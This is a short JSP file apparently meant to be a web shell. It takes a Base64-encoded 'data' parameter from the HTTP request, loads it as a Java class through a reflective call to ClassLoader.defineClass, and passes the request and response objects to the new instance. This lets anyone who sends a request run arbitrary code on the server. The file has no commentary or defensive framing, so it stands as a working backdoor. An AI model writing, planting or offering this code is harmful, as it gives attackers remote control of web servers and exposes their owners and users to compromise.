<%@ page import="java.lang.reflect.Method,java.util.Base64" %>
<%
    String data = request.getParameter("data");
    if (data != null) {
        byte[] bytes = Base64.getDecoder().decode(data);
        ClassLoader loader = Thread.currentThread().getContextClassLoader();
        Method define = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
        define.setAccessible(true);
        Class<?> clazz = (Class<?>) define.invoke(loader, bytes, 0, bytes.length);
        Object inst = clazz.newInstance();
        out.print(inst.toString());
        inst.equals(new Object[] { request, response });
    }
%>
